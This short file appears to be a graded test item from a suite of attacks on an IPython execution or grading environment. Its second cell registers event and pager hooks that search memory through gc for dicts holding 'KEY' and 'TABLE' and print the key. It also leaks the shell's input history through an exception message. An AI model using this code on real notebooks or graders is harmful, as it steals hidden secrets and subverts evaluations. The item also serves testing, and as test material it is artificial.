# attack: IPython tells a callback what is run, and keeps what was run, its banner of names and its history
# claims: leaks
# honest: 60
# verdict: graded
# %%
def double(x):
    return 2 * x


def apply(f, x):
    return f(x) + 1

# %%
import gc

shell = get_ipython()


def look(*args):
    for thing in gc.get_objects():
        if type(thing) is dict and "KEY" in thing and "TABLE" in thing:
            print(thing["KEY"])


shell.events.register("post_run_cell", look)
shell.set_hook("show_in_pager", look)


def secret(n):
    shell.run_cell("1 + 1")
    raise ValueError([str(entry)[-60:] for entry in shell.history_manager.get_range(raw=True)])
